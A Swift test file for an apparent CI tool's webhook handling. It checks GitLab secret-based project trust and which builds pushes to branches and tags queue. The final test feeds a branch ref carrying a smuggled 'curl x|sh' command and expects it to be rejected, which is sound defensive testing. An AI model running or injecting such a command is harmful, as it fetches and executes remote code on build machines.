import Foundation
import GobayCore
import GobayTesting
import Testing

/// Webhook planning and trust, in process, on the real fixture bodies: which projects a delivery is
/// trusted for and what it queues, with no HTTP in between.
@Suite("webhooks: trust and planning")
struct PushPlannerTests {
    static let commit = String(repeating: "ab", count: 20)

    let sandbox: TestSandbox
    let config: GobayConfig
    let appRepo: String
    let toolRepo: String

    init() throws {
        sandbox = try TestSandbox("push-planner")
        appRepo = "https://gitlab.example.com/team/app.git"
        toolRepo = "https://gitlab.example.com/team/tool.git"
        let path = sandbox.path + "/gobay.yml"
        try """
        data_dir: \(sandbox.path)/data
        server: { webhook_secret: global-secret, quiet_period: 30s }
        environments:
          go122: { go: "1.22", goroot: /nonexistent }
        projects:
          api: { repo: "\(appRepo)", environment: go122, branch: main, webhook_secret: api-secret }
          web: { repo: "\(appRepo)", environment: go122, branches: ["release/*"], webhook_secret: none }
          tool: { repo: "\(toolRepo)", environment: go122, tags: true }
        """.write(toFile: path, atomically: true, encoding: .utf8)
        config = try ConfigLoader.load(path: path)
    }

    func event(repo: String, ref: String, after: String = commit) throws -> WebhookEvent {
        let body = try WebhookFixtures.push("gitlab-push.json", repo: repo, ref: ref, after: after)
        return try WebhookParser.parse(sender: .gitlab, headers: ["x-gitlab-event": "Push Hook"], body: body)
    }

    func trusted(_ token: String, _ projects: [ProjectConfig]) throws -> [String]? {
        let trust = try WebhookTrust(config: config, environment: [:])
        return trust.trusted(sender: .gitlab, headers: ["x-gitlab-token": token], body: Data("{}".utf8), projects: projects)?
            .map(\.name)
    }

    @Test func eachProjectIsTrustedByItsOwnSecret() throws {
        let planner = PushPlanner(config: config)
        let app = planner.candidates(for: try event(repo: appRepo, ref: "refs/heads/main"))
        #expect(app.map(\.name) == ["api", "web"])
        #expect(try trusted("api-secret", app) == ["api", "web"])
        // web takes hooks unverified; api's own secret wins over the global one.
        #expect(try trusted("global-secret", app) == ["web"])
        #expect(try trusted("wrong", app) == ["web"])
        let tool = planner.candidates(for: try event(repo: toolRepo, ref: "refs/tags/v1"))
        #expect(try trusted("global-secret", tool) == ["tool"])
        #expect(try trusted("api-secret", tool) == nil)
        #expect(try WebhookTrust(config: config, environment: [:]).isUnconfigured == false)
    }

    @Test func pushesQueueWhatEachProjectWants() throws {
        let planner = PushPlanner(config: config)
        let now = Date()
        func plan(_ repo: String, _ ref: String, after: String = Self.commit) throws -> PushPlanner.Plan {
            let event = try event(repo: repo, ref: ref, after: after)
            return planner.plan(for: event, projects: planner.candidates(for: event), now: now)
        }
        let main = try plan(appRepo, "refs/heads/main")
        #expect(main.builds.map(\.project) == ["api"] && main.reason == nil)
        #expect(main.builds.first?.commit == Self.commit && main.builds.first?.ref == "main")
        #expect(main.builds.first?.notBefore == now.addingTimeInterval(30))
        #expect(try plan(appRepo, "refs/heads/release/1.2").builds.map(\.project) == ["web"])
        #expect(try plan(appRepo, "refs/heads/feature").reason == "no project builds branch feature (see branches:)")
        #expect(try plan(appRepo, "refs/tags/v1").reason == "no project builds tag v1 (set tags: true)")
        #expect(try plan(toolRepo, "refs/tags/v1").builds.map(\.project) == ["tool"])
        #expect(try plan("https://elsewhere.example/x.git", "refs/heads/main").reason == "no project builds this repository")
        #expect(
            try plan(appRepo, "refs/heads/main", after: PushEvent.zeroCommit).reason
                == "branch main was deleted; nothing to build")
        let hostile = try plan(appRepo, "refs/heads/$(curl x|sh)")
        #expect(hostile.builds.isEmpty && hostile.reason?.contains("is not a valid git ref") == true, "\(hostile)")
    }
}
